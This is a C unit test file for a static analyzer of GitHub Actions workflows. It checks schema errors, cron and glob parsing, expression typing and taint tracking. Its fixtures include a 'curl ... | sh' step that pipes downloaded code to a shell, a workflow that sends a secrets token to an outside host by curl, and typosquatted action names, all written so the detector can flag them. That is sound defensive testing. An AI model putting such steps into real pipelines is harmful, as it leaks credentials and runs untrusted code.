/* SPDX-License-Identifier: Apache-2.0 */
#include "audit/lift/github_actions/events.h"
#include "audit/lift/github_actions/github_actions.h"
#include "unit/audit/facts.h"

static void assert_facts(const char *text, const char *query, const char *expected)
{
    assert_facts_of("github-actions", text, query, expected);
}

static void assert_errors(const char *text, const char *expected)
{
    assert_facts(text, "$.errors[*].code", expected);
}

#define JOB "on: push\njobs:\n  a:\n    runs-on: x\n"
#define STEPS JOB "    steps:\n"
#define RUN "    steps: [{run: a}]\n"

static void tells_workflows_from_other_files(void **state)
{
    (void)state;
    assert_true(github_actions_is(SPAN("a.yml"), span_of(STEPS)));
    assert_true(github_actions_is(SPAN(".github/workflows/a.yml"), SPAN("on: push\n")));
    assert_true(github_actions_is(SPAN("x/action.yml"), SPAN("runs: {using: docker}\n")));
    assert_false(github_actions_is(SPAN("a.yml"), SPAN("on: push\njobs: 5\n")));
    assert_false(github_actions_is(SPAN("a.yml"), SPAN("stages: [a]\nsteps: 1\n")));
}

static void finds_what_the_schema_refuses(void **state)
{
    (void)state;
    assert_errors(STEPS "      - run: a\n", "");
    assert_errors(STEPS "      - run: a\n        wth: 1\n", "7:unknown-key");
    assert_errors(STEPS "      - run: a\n        run: b\n", "7:duplicate-key");
    assert_errors(STEPS "      - run: a\n        env:\n          A: 1\n          a: 2\n",
                  "9:duplicate-key");
    assert_errors(STEPS "      - run: a\npermissions:\n  content: read\n", "8:bad-permission");
    assert_errors(STEPS "      - uses: a/b@c\n        working-directory: d\n",
                  "7:conflicting-keys");
    assert_errors("on: push\njobs:\n  a:\n    uses: a/b/c.yml@c\n    secrets: d\n", "5:type");
    assert_errors("jobs:\n  a:\n    uses: a/b/c.yml@c\n", "1:missing-key");
    assert_errors(JOB RUN "    needs:\n", "6:empty");
    assert_errors(JOB RUN "    timeout-minutes: 0\n", "6:type");
    assert_errors(JOB RUN "    timeout-minutes: ${{ 5 }}\n", "");
    assert_errors(JOB "    steps:\n      - run: a\n        env: &e {A: b}\n      - run: a\n"
                      "        env:\n          <<: *e\n",
                  "10:merge-key");
}

static void places_keys_wherever_they_stand(void **state)
{
    (void)state;
    assert_facts("on: push\njobs: {\"\xc3\xa4\xc3\xa4\": {runs-on: x, steps: [{run: a}], b: c}}\n",
                 "$.errors[?@.code == 'unknown-key'].name", "2:b");
    assert_facts("on: push\njobs:\n  ? a\n  :\n    uses: a/b/c@d\n    b: c\n",
                 "$.errors[*]['code','name']", "6:unknown-key,6:b");
}

static void finds_jobs_that_do_not_fit(void **state)
{
    (void)state;
    assert_errors(STEPS "      - run: a\n    needs: [a, b]\n", "7:unknown-need,7:unknown-need");
    assert_errors("on: push\njobs:\n  a: {uses: o/r/w@v, needs: b}\n  b: {uses: o/r/w@v, needs: "
                  "[a]}\n",
                  "3:cyclic-needs");
    assert_errors(STEPS "      - {run: a, id: b}\n      - {run: a, id: B}\n", "7:duplicate-id");
    assert_errors(JOB RUN "    strategy: {matrix: {a: [1, 1]}}\n", "6:matrix-duplicate");
    assert_errors(JOB RUN "    strategy: {matrix: {a: [1], exclude: [{a: 2}]}}\n",
                  "6:matrix-unmatched");
    assert_errors(JOB RUN "    strategy: {matrix: {a: ['${{ 1 }}'], exclude: [{a: 2}]}}\n", "");
    assert_facts("on: push\njobs:\n  a:\n    runs-on: [self-hosted, '${{ matrix.o }}']\n"
                 "    strategy:\n      matrix:\n        o: [linux, gpu, macos-12]\n" RUN,
                 "$.jobs[0].runsOn['unknown','removed','conflicts'][*]", "7:gpu,7:macos-12");
}

static void finds_events_that_never_come(void **state)
{
    (void)state;
    assert_errors("on: pushed\njobs:\n  a:\n    uses: a/b/c@c\n", "1:unknown-event");
    assert_errors("on:\n  issues:\n    types: created\njobs:\n  a:\n    uses: a/b/c@c\n",
                  "3:unknown-event-type");
    assert_errors("on:\n  release:\n    tags: a\njobs:\n  a:\n    uses: a/b/c@c\n",
                  "3:filter-not-here");
    assert_errors("on:\n  label:\n    types: &t [created]\n  pull_request:\n    types: *t\njobs:\n"
                  "  a:\n    uses: a/b/c@c\n",
                  "5:unknown-event-type");
}

static void reads_patterns_and_schedules(void **state)
{
    (void)state;
    assert_null(glob_problem_of_ref(SPAN("!release/[a-z0-9]+/**")));
    assert_null(glob_problem_of_path(SPAN("**/a b/*.c")));
    assert_non_null(glob_problem_of_ref(SPAN("^a")));
    assert_non_null(glob_problem_of_ref(SPAN("v[9-0]")));
    assert_non_null(glob_problem_of_ref(SPAN("v[")));
    assert_non_null(glob_problem_of_ref(SPAN("!")));
    assert_non_null(glob_problem_of_path(SPAN("./a")));
    assert_null(cron_problem(SPAN("*/5 0-6/2 1,15 JAN-mar MON")));
    assert_null(cron_problem(SPAN("58 23 * * 7")));
    assert_string_equal(cron_problem(SPAN("0 24 * * *")), "bad-cron");
    assert_string_equal(cron_problem(SPAN("0 0 * *")), "bad-cron");
    assert_string_equal(cron_problem(SPAN("0 0 5-1 * *")), "bad-cron");
    assert_string_equal(cron_problem(SPAN("@daily")), "bad-cron");
    assert_string_equal(cron_problem(SPAN("0,58 * * * *")), "cron-too-often");
    assert_null(cron_problem(SPAN("3/18446744073709551615 1 * * *")));
    assert_false(cron_is_timezone(SPAN("Not/A")));
    assert_true(cron_is_timezone(SPAN("America/Argentina/Ushuaia")));
}

static void judges_expressions(void **state)
{
    (void)state;
    assert_errors(STEPS "      - run: ${{ format('}}{{{0}', github.event.a[0].*.b) }}\n", "");
    assert_errors(STEPS "      - run: ${{ 'a }}\n", "6:expression-syntax");
    assert_errors(STEPS "      - run: ${{ nope() }}\n", "6:unknown-function");
    assert_errors(STEPS "      - run: ${{ steps.b.outputs.c }}\n", "6:undefined-member");
    assert_errors(STEPS "      - run: ${{ github.nope }}\n", "6:undefined-member");
    assert_errors(STEPS "      - run: a\nenv:\n  A: ${{ runner.os }}\n", "8:context-not-here");
    assert_errors(STEPS "      - run: |\n          a\n\n          ${{ b }}\n", "9:unknown-context");
    assert_errors(STEPS "      - run: 'a ''b'' \n\n          ${{ b }}'\n", "8:unknown-context");
    assert_errors(STEPS "      - {run: a, if: 'a == ${{ 1 }}'}\n", "6:condition-always-true");
    assert_errors(STEPS "      - {run: a, if: 1 == 2}\n", "6:condition-constant");
    assert_errors(STEPS "      - {run: a, if: github.event == 'a'}\n", "6:bad-comparison");
    assert_errors(JOB RUN "    strategy: {matrix: {a: [{b: 1}]}}\n    name: ${{ matrix.a.c }}\n",
                  "7:undefined-member");
    assert_errors(JOB RUN "    strategy: {matrix: {include: '${{ fromJSON(vars.A) }}'}}\n"
                          "    name: ${{ matrix.a.c }}\n",
                  "");
}

static void tells_who_wrote_a_text(void **state)
{
    static const char taint[] = "$.jobs[*].steps[*].expressions[?@.place == 'run'].taint";
    (void)state;
    assert_facts(STEPS "      - run: ${{ github.event.issue.title }}\n", taint, "6:attacker");
    assert_facts(STEPS "      - run: ${{ github.event.commits[0]['message'] }}\n", taint,
                 "6:attacker");
    assert_facts(STEPS "      - run: ${{ toJSON(github.event.*.body) }}\n", taint, "6:attacker");
    assert_facts(STEPS "      - run: ${{ toJSON(github.event.issue) }}\n", taint, "6:attacker");
    assert_facts(STEPS "      - run: ${{ contains(github.event.issue.title, 'a') }}\n", taint,
                 "6:safe");
    assert_facts(STEPS "      - run: ${{ github.head_ref && 'a' || 'b' }}\n", taint, "6:safe");
    assert_facts(STEPS "      - run: ${{ github.event.inputs.body }}\n", taint, "6:caller");
    assert_facts(STEPS "      - run: ${{ github.event.issue.number }}\n", taint, "6:safe");
    assert_facts(STEPS "      - run: ${{ env.A }}\n        env: {A: 'x ${{ github.head_ref }}'}\n",
                 taint, "6:indirect");
    assert_facts(STEPS "      - run: a\n        env: {A: '${{ github.head_ref }}'}\n"
                       "      - run: ${{ env.A }}\n",
                 taint, "8:safe");
}

static void knows_references(void **state)
{
    (void)state;
    assert_facts(STEPS "      - uses: o/r/p@v1\n",
                 "$.jobs[*].steps[*].uses['owner','repo','path','refKind']", "6:o,6:r,6:p,6:tag");
    assert_facts(STEPS "      - uses: actions/checkout@v4\n",
                 "$.jobs[*].steps[*].checkout.persistCredentials", "6:true");
    assert_facts(STEPS "      - run: |\n          a\n          curl https://x.example/a | sh\n",
                 "$.jobs[*].steps[*].run.downloads[*].executed", "8:true");
}

static void sees_secrets_leave(void **state)
{
    (void)state;
    assert_facts("on: push\nenv: {T: '${{ secrets.T }}'}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
                 "    - run: |\n        curl -d \"$T\" https://acme.io\n"
                 "        curl -H \"a $T\" https://acme.io\n        curl https://acme.io/?${T}x\n",
                 "$.jobs[*].steps[*].run.sentSecrets[*]", "8:$T,10:https://acme.io/?${T}x");
    assert_facts("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"
                 "    - {uses: action/cache@v4}\n    - {uses: actions/cache@v4}\n"
                 "    - {uses: acitons/cache@v4}\n",
                 "$.jobs[*].steps[*].uses.lookalike", "6:true,7:false,8:true");
}

static void reads_actions(void **state)
{
    (void)state;
    assert_errors("name: a\ndescription: b\nruns:\n  using: composite\n  steps:\n    - run: a\n",
                  "6:missing-key");
    assert_errors("name: a\ndescription: b\ninputs: {c: {}}\nruns:\n  using: composite\n  steps:\n"
                  "    - {run: '${{ inputs.d }} ${{ secrets.e }}', shell: bash}\n",
                  "7:undefined-member,7:context-not-here");
    assert_facts("name: a\ndescription: b\nruns:\n  using: composite\n  steps: [{uses: o/r@v1}]\n",
                 "$.jobs[*].steps[*].uses.refKind", "5:tag");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tells_workflows_from_other_files),
        cmocka_unit_test(finds_what_the_schema_refuses),
        cmocka_unit_test(places_keys_wherever_they_stand),
        cmocka_unit_test(finds_jobs_that_do_not_fit),
        cmocka_unit_test(finds_events_that_never_come),
        cmocka_unit_test(reads_patterns_and_schedules),
        cmocka_unit_test(judges_expressions),
        cmocka_unit_test(tells_who_wrote_a_text),
        cmocka_unit_test(knows_references),
        cmocka_unit_test(reads_actions),
        cmocka_unit_test(sees_secrets_leave),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
